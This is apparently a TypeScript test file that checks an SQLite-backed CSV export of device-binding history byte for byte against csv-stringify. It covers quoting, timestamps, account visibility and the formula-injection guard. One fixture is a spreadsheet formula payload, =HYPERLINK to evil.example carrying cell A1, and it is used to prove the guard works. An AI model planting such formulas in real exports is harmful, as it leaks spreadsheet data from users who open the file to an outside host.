import BetterSqlite3 from 'better-sqlite3';
import fc from 'fast-check';
import { stringify } from 'csv-stringify/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { FAILURE_CODES, FAILURE_HINTS, type FailureCode } from '../../src/protocol/failure-codes.js';
import type { HistoryQuery, HistoryRow } from '../../src/protocol/station-api.js';
import { CSV_COLUMNS, type CsvHintColumn, type HistoryScope } from '../../src/history/index.js';
import type { AttemptRecord } from '../../src/history/history-row.js';
import { allPages, attempt, OWNER, openTempHistory, readAll, type TempHistory } from './history-fixtures.js';

/**
 * The export's bytes, exactly. SQLite joins most of each line and the export writes the rest
 * (csv-export.ts, for speed); what comes out must be byte for byte what csv-stringify writes with the
 * export's options (escape_formulas, BOM, header) for the rows of the history view: quoting, doubled
 * quotes, the formula guard's apostrophe, empty cells for NULL, ISO times, hints, the order, the
 * filters and each account's visibility. Rows go into the file with SQL of their own, so cells can
 * hold what the store's validation keeps out today (CR, LF, tabs, empty text) but a file may hold.
 */

let h: TempHistory;
let raw: BetterSqlite3.Database;
beforeEach(() => {
  h = openTempHistory();
  raw = new BetterSqlite3(h.path);
});
afterEach(() => {
  raw.close();
  h.cleanup();
});

/** A row of `attempts` as the test writes it straight into the table (the store's own record, less its ids). */
type RawAttempt = Omit<AttemptRecord, 'id' | 'token_id' | 'result'> & { result: 'UNBOUND' | 'NOT_BOUND' | 'FAILED' };

const plain: RawAttempt = {
  at: Date.UTC(2025, 2, 10, 9, 0, 0),
  station_id: 'st-1',
  operator: 'Ana Ruiz',
  account_id: 'acc-owner',
  method: 'qr',
  batch_id: 'b-1',
  pid: 'cam-c6n',
  dev_id: 'dev-1',
  serial: 'C6N-AAAAAA-00001',
  result: 'UNBOUND',
  code: null,
};

function insert(rows: ReadonlyArray<Partial<RawAttempt>>): void {
  const stmt = raw.prepare(
    `INSERT INTO attempts (at, station_id, operator, account_id, method, batch_id, pid, dev_id, serial, result, code)
     VALUES (@at, @station_id, @operator, @account_id, @method, @batch_id, @pid, @dev_id, @serial, @result, @code)`,
  );
  raw.transaction(() => {
    for (const r of rows) stmt.run({ ...plain, ...r });
  })();
}

const exportOf = async (scope: HistoryScope = OWNER, q: HistoryQuery = {}, extra: CsvHintColumn | null = null): Promise<Buffer> =>
  readAll(h.store.exportCsv(scope, q, extra));

/** The export as csv-stringify writes it (the library the export's rules come from) for the rows the history view shows. */
function oracle(rows: HistoryRow[], extra: CsvHintColumn | null = null): Buffer {
  const columns = extra ? [...CSV_COLUMNS, extra.name] : [...CSV_COLUMNS];
  const records = rows.map((r) => [
    r.at,
    r.stationId,
    r.operator,
    r.accountId,
    r.method,
    r.batchId,
    r.pid,
    r.devId,
    r.serial,
    r.result,
    r.code,
    r.code ? FAILURE_HINTS[r.code] : null,
    ...(extra ? [r.code ? extra.hintOf(r.code) : null] : []),
  ]);
  return Buffer.from(stringify(records, { columns, header: true, bom: true, escape_formulas: true }), 'utf8');
}

const MIDNIGHT = Date.UTC(2025, 2, 10); // Monday 10 March 2025, 00:00 UTC
const HEADER = '\uFEFFtime,station,operator,account,method,batch,product,device,serial,result,code,hint\n';

describe('CSV export bytes', () => {
  it('given tricky cells and times, then each line is exactly as written out here', async () => {
    insert([
      { at: MIDNIGHT - 1, dev_id: 'dev-a', operator: 'O\'Brien, "Bench" 2' },
      { at: MIDNIGHT, dev_id: 'dev-b', batch_id: null, pid: null, serial: null, result: 'FAILED', code: 'DEVICE_UNKNOWN' },
      { at: MIDNIGHT + 999, dev_id: 'dev-c', operator: '=HYPERLINK("http://evil.example/?d="&A1,"Click")' },
      { at: MIDNIGHT + 1000, dev_id: '+dev-d', station_id: '@st', serial: '-2-3-ABC', result: 'NOT_BOUND' },
      // One guarded cell alone in its row, so each rule is what makes the difference there.
      { at: MIDNIGHT + 2_000, dev_id: 'dev-minus', serial: '-A1' },
      { at: MIDNIGHT + 3_000, dev_id: 'dev-tab', operator: '\tTab only' },
      { at: MIDNIGHT + 4_000, dev_id: 'dev-fw', operator: '＋fw' },
      { at: MIDNIGHT + 5_000, dev_id: 'dev-q', operator: 'say "hi"' },
      { at: MIDNIGHT + 6_000, dev_id: 'dev-cr', operator: 'a\rb' },
      { at: MIDNIGHT + 7_000, dev_id: 'dev-crlead', operator: '\rX' },
      { at: MIDNIGHT + 8_000, dev_id: 'dev-qlead', operator: '"Q' },
      { at: MIDNIGHT + 59_999, dev_id: 'dev-e', operator: 'line 1\nline 2', station_id: 'a\r\nb', batch_id: 'b\rc' },
      { at: MIDNIGHT + 60_000, dev_id: 'dev-f', operator: '\tTab', serial: '\r-lead', method: 'a"b' },
      { at: MIDNIGHT + 61_001, dev_id: '＠dev-g', operator: 'Zoë Martín 😀', station_id: '＝1+1', serial: '＋X', batch_id: '－1' },
      { at: MIDNIGHT + 61_001, dev_id: 'dev-h', operator: '', serial: '', batch_id: '', method: 'wired' },
      { at: MIDNIGHT + 86_400_000 + 3_723_456, dev_id: 'dev-i', result: 'UNBOUND', code: 'SERIAL_MISMATCH', operator: "it's fine - really, ok" },
      { at: MIDNIGHT + 2 * 86_400_000, dev_id: 'dev-j', result: 'FAILED', code: 'WIFI_AUTH', operator: ' =lead space', serial: 'x=y', method: 'serial' },
      { at: MIDNIGHT + 2 * 86_400_000 + 1, dev_id: 'dev-k', result: 'FAILED', code: 'TIMEOUT', operator: '"', station_id: ',', batch_id: '\n', serial: '\r' },
      { at: 0, dev_id: 'dev-epoch' },
      { at: Date.UTC(9999, 11, 31, 23, 59, 59, 999), dev_id: 'dev-9999' },
      { at: Date.UTC(9999, 11, 31, 23, 59, 59, 999) + 1, dev_id: 'dev-10000' },
      { at: 8.64e15, dev_id: 'dev-last' },
      { at: -1, dev_id: 'dev-before-epoch' },
      { at: Date.UTC(-1, 0, 1, 0, 0, 0, 7), dev_id: 'dev-bce' },
    ]);
    const bytes = await exportOf();
    const expected =
      HEADER +
      '+275760-09-13T00:00:00.000Z,st-1,Ana Ruiz,acc-owner,qr,b-1,cam-c6n,dev-last,C6N-AAAAAA-00001,UNBOUND,,\n' +
      '+010000-01-01T00:00:00.000Z,st-1,Ana Ruiz,acc-owner,qr,b-1,cam-c6n,dev-10000,C6N-AAAAAA-00001,UNBOUND,,\n' +
      '9999-12-31T23:59:59.999Z,st-1,Ana Ruiz,acc-owner,qr,b-1,cam-c6n,dev-9999,C6N-AAAAAA-00001,UNBOUND,,\n' +
      '2025-03-12T00:00:00.001Z,",","""",acc-owner,qr,"\n",cam-c6n,dev-k,"\'\r",FAILED,TIMEOUT,"The device did not answer in time. Check that it is powered and connected, then retry."\n' +
      '2025-03-12T00:00:00.000Z,st-1, =lead space,acc-owner,serial,b-1,cam-c6n,dev-j,x=y,FAILED,WIFI_AUTH,The device could not join the Wi-Fi: wrong password. Check the Wi-Fi password and make a new code.\n' +
      '2025-03-11T01:02:03.456Z,st-1,"it\'s fine - really, ok",acc-owner,qr,b-1,cam-c6n,dev-i,C6N-AAAAAA-00001,UNBOUND,SERIAL_MISMATCH,"The serial the device reports differs from its scanned label, or it is not in the batch manifest. Check the label and the device."\n' +
      "2025-03-10T00:01:01.001Z,st-1,,acc-owner,wired,,cam-c6n,dev-h,,UNBOUND,,\n" +
      "2025-03-10T00:01:01.001Z,'＝1+1,Zoë Martín 😀,acc-owner,qr,'－1,cam-c6n,'＠dev-g,'＋X,UNBOUND,,\n" +
      `2025-03-10T00:01:00.000Z,st-1,'\tTab,acc-owner,"a""b",b-1,cam-c6n,dev-f,"'\r-lead",UNBOUND,,\n` +
      '2025-03-10T00:00:59.999Z,"a\r\nb","line 1\nline 2",acc-owner,qr,"b\rc",cam-c6n,dev-e,C6N-AAAAAA-00001,UNBOUND,,\n' +
      '2025-03-10T00:00:08.000Z,st-1,"""Q",acc-owner,qr,b-1,cam-c6n,dev-qlead,C6N-AAAAAA-00001,UNBOUND,,\n' +
      '2025-03-10T00:00:07.000Z,st-1,"\'\rX",acc-owner,qr,b-1,cam-c6n,dev-crlead,C6N-AAAAAA-00001,UNBOUND,,\n' +
      '2025-03-10T00:00:06.000Z,st-1,"a\rb",acc-owner,qr,b-1,cam-c6n,dev-cr,C6N-AAAAAA-00001,UNBOUND,,\n' +
      '2025-03-10T00:00:05.000Z,st-1,"say ""hi""",acc-owner,qr,b-1,cam-c6n,dev-q,C6N-AAAAAA-00001,UNBOUND,,\n' +
      "2025-03-10T00:00:04.000Z,st-1,'＋fw,acc-owner,qr,b-1,cam-c6n,dev-fw,C6N-AAAAAA-00001,UNBOUND,,\n" +
      "2025-03-10T00:00:03.000Z,st-1,'\tTab only,acc-owner,qr,b-1,cam-c6n,dev-tab,C6N-AAAAAA-00001,UNBOUND,,\n" +
      "2025-03-10T00:00:02.000Z,st-1,Ana Ruiz,acc-owner,qr,b-1,cam-c6n,dev-minus,'-A1,UNBOUND,,\n" +
      "2025-03-10T00:00:01.000Z,'@st,Ana Ruiz,acc-owner,qr,b-1,cam-c6n,'+dev-d,'-2-3-ABC,NOT_BOUND,,\n" +
      '2025-03-10T00:00:00.999Z,st-1,"\'=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")",acc-owner,qr,b-1,cam-c6n,dev-c,C6N-AAAAAA-00001,UNBOUND,,\n' +
      '2025-03-10T00:00:00.000Z,st-1,Ana Ruiz,acc-owner,qr,,,dev-b,,FAILED,DEVICE_UNKNOWN,The authority does not know this device. Check the serial label; it may be a counterfeit or from another vendor.\n' +
      '2025-03-09T23:59:59.999Z,st-1,"O\'Brien, ""Bench"" 2",acc-owner,qr,b-1,cam-c6n,dev-a,C6N-AAAAAA-00001,UNBOUND,,\n' +
      '1970-01-01T00:00:00.000Z,st-1,Ana Ruiz,acc-owner,qr,b-1,cam-c6n,dev-epoch,C6N-AAAAAA-00001,UNBOUND,,\n' +
      '1969-12-31T23:59:59.999Z,st-1,Ana Ruiz,acc-owner,qr,b-1,cam-c6n,dev-before-epoch,C6N-AAAAAA-00001,UNBOUND,,\n' +
      '-000001-01-01T00:00:00.007Z,st-1,Ana Ruiz,acc-owner,qr,b-1,cam-c6n,dev-bce,C6N-AAAAAA-00001,UNBOUND,,\n';
    expect(bytes.toString('utf8')).toBe(expected);
    expect(bytes.equals(Buffer.from(expected, 'utf8'))).toBe(true);
    // The time cell is toISOString() as it is: past year 9999 and before year 0 it starts with + or -
    // and gets no apostrophe (csv-stringify would add one), as the export has always written it. The
    // oracle's share: the years 1970 to 9999.
    const ordinary = { from: '1970-01-01T00:00:00.000Z', to: '9999-12-31T00:00:00.000Z' };
    expect(allPages(h.store, OWNER, ordinary)).toHaveLength(19);
    expect((await exportOf(OWNER, ordinary)).equals(oracle(allPages(h.store, OWNER, ordinary)))).toBe(true);

    // The extra hint column: after the stable ones, for coded rows only, quoted by the same rules.
    const extra: CsvHintColumn = { name: 'hint_xx', hintOf: (code) => (code === 'TIMEOUT' ? '=zu spät, "sagt" er' : `xx:${code}`) };
    const withExtra = await exportOf(OWNER, {}, extra);
    const lines = withExtra.toString('utf8').split(/\n(?=[0-9+]|$)/);
    expect(lines[0]).toBe(`${HEADER.slice(0, -1)},hint_xx`);
    expect(lines[4]).toBe(
      '2025-03-12T00:00:00.001Z,",","""",acc-owner,qr,"\n",cam-c6n,dev-k,"\'\r",FAILED,TIMEOUT,"The device did not answer in time. Check that it is powered and connected, then retry.","\'=zu spät, ""sagt"" er"',
    );
    expect(lines[5]!.endsWith(',WIFI_AUTH,The device could not join the Wi-Fi: wrong password. Check the Wi-Fi password and make a new code.,xx:WIFI_AUTH')).toBe(true);
    expect(lines[7]).toBe('2025-03-10T00:01:01.001Z,st-1,,acc-owner,wired,,cam-c6n,dev-h,,UNBOUND,,,');
    expect((await exportOf(OWNER, ordinary, extra)).equals(oracle(allPages(h.store, OWNER, ordinary), extra))).toBe(true);
  });

  it('given every failure code, on failures and as a flag on other results, then code and hint cells are csv-stringify\'s', async () => {
    insert(
      FAILURE_CODES.flatMap((code, i) => [
        { at: MIDNIGHT + i * 1000, dev_id: `dev-f-${i}`, result: 'FAILED' as const, code },
        { at: MIDNIGHT + i * 1000 + 1, dev_id: `dev-u-${i}`, result: 'UNBOUND' as const, code },
        { at: MIDNIGHT + i * 1000 + 2, dev_id: `dev-n-${i}`, result: 'NOT_BOUND' as const, code: null },
      ]),
    );
    const rows = allPages(h.store, OWNER);
    expect(rows).toHaveLength(FAILURE_CODES.length * 3);
    expect(await exportOf()).toEqual(oracle(rows));
    const extra: CsvHintColumn = { name: 'hint_ru', hintOf: (code: FailureCode) => `ru, "${code}"` };
    expect(await exportOf(OWNER, {}, extra)).toEqual(oracle(rows, extra));
  });

  it('given filters and accounts of different reach, then each export is byte for byte the CSV of that history view', async () => {
    // Recorded through the store (validation, text index), then odd rows of other accounts by SQL.
    h.store.recordMany([
      ...Array.from({ length: 40 }, (_, i) =>
        attempt({
          at: MIDNIGHT + i * 3_600_000,
          operator: i % 3 ? 'Ana Ruiz' : 'O\'Brien, "Bench" 2',
          accountId: i % 4 === 0 ? 'acc-partner' : 'acc-owner',
          pid: i % 5 === 0 ? null : i % 2 ? 'cam-c6n' : 'nvr-n8w',
          method: i % 2 ? 'qr' : 'wired',
          batchId: i % 7 === 0 ? null : `b-${i % 3}`,
          serial: i % 6 === 0 ? `-C6N-${i}` : `C6N-X${i}`,
          result: i % 3 === 0 ? 'FAILED' : 'UNBOUND',
          code: i % 3 === 0 ? 'WIFI_AUTH' : i % 8 === 1 ? 'SERIAL_MISMATCH' : null,
        }),
      ),
    ]);
    insert([
      { at: MIDNIGHT + 5, account_id: 'acc-partner', pid: 'cam-c6n', operator: 'p,1', dev_id: 'dev-p1' },
      { at: MIDNIGHT + 6, account_id: 'acc-other', pid: 'cam-c6n', operator: '=other', dev_id: 'dev-o1' },
      { at: MIDNIGHT + 7, account_id: 'acc-other', pid: null, operator: 'other\nnull pid', dev_id: 'dev-o2' },
      { at: MIDNIGHT + 8, account_id: 'acc-partner', pid: null, operator: 'partner "null" pid', dev_id: 'dev-p2' },
      { at: MIDNIGHT + 9, account_id: 'acc-partner', pid: 'cam-h6c', dev_id: 'dev-p3' },
    ]);
    const PARTNER: HistoryScope = { accountId: 'acc-partner', allPids: [], ownPids: ['cam-c6n'] };
    const MIXED: HistoryScope = { accountId: 'acc-partner', allPids: ['nvr-n8w'], ownPids: ['cam-c6n', 'nvr-n8w'] };
    const NOBODY: HistoryScope = { accountId: 'acc-nobody', allPids: [], ownPids: [] };
    const queries: HistoryQuery[] = [
      {},
      { result: 'FAILED' },
      { pid: 'cam-c6n' },
      { pid: 'nvr-n8w' },
      { code: 'WIFI_AUTH' },
      { code: 'SERIAL_MISMATCH', result: 'UNBOUND' },
      { from: new Date(MIDNIGHT + 6).toISOString(), to: new Date(MIDNIGHT + 10 * 3_600_000).toISOString() },
      { operator: 'O\'Brien, "Bench" 2' },
      { method: 'wired' },
      { batchId: 'b-1' },
      { text: 'C6N-X1' },
      { text: '-c6n' },
      { limit: 2, result: 'UNBOUND' },
    ];
    let nonEmpty = 0;
    for (const scope of [OWNER, PARTNER, MIXED, NOBODY]) {
      for (const q of queries) {
        const rows = allPages(h.store, scope, { ...q, limit: undefined });
        if (rows.length > 0) nonEmpty++;
        const bytes = await exportOf(scope, q);
        expect({ scope, q, csv: bytes.toString('utf8') }).toEqual({ scope, q, csv: oracle(rows).toString('utf8') });
        expect(bytes.equals(oracle(rows))).toBe(true);
      }
    }
    expect(nonEmpty).toBeGreaterThan(30);
    // Visibility, spelled out: the partner sees its own rows on its product and its own unknown-product rows, nobody else's.
    const partnerDevices = allPages(h.store, PARTNER).map((r) => r.devId);
    expect(partnerDevices).toContain('dev-p1');
    expect(partnerDevices).toContain('dev-p2');
    expect(partnerDevices).not.toContain('dev-p3');
    expect(partnerDevices).not.toContain('dev-o1');
    expect(partnerDevices).not.toContain('dev-o2');
  });

  it('given any text in any cell, then the export is csv-stringify\'s CSV of the rows', async () => {
    const tricky = fc.constantFrom('"', ',', '\n', '\r', '=', '+', '-', '@', '\t', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20', "'", ' ', 'a', 'Ü', '😀', '0');
    const text = fc.oneof(fc.string({ unit: tricky, maxLength: 6 }), fc.string({ maxLength: 12 }), fc.constantFrom('st-1', 'Ana Ruiz', 'C6N-AAAAAA-00001'));
    const nullable = fc.option(text, { nil: null });
    const row = fc.record({
      at: fc.integer({ min: 0, max: 4_102_444_800_000 }),
      station_id: text,
      operator: text,
      account_id: fc.constantFrom('acc-owner', 'acc-owner', 'acc-x'),
      method: text,
      batch_id: nullable,
      pid: fc.option(fc.constantFrom('cam-c6n', 'nvr-n8w', 'x'), { nil: null }),
      dev_id: text,
      serial: nullable,
      result: fc.constantFrom('UNBOUND', 'NOT_BOUND') as fc.Arbitrary<'UNBOUND' | 'NOT_BOUND'>,
      code: fc.option(fc.constantFrom(...FAILURE_CODES), { nil: null }),
    });
    await fc.assert(
      fc.asyncProperty(fc.array(row, { minLength: 1, maxLength: 30 }), async (rows) => {
        raw.exec('DELETE FROM attempts');
        insert(rows);
        const bytes = await exportOf();
        expect(bytes.toString('utf8')).toBe(oracle(allPages(h.store, OWNER)).toString('utf8'));
      }),
      { numRuns: 150 },
    );
  });
});
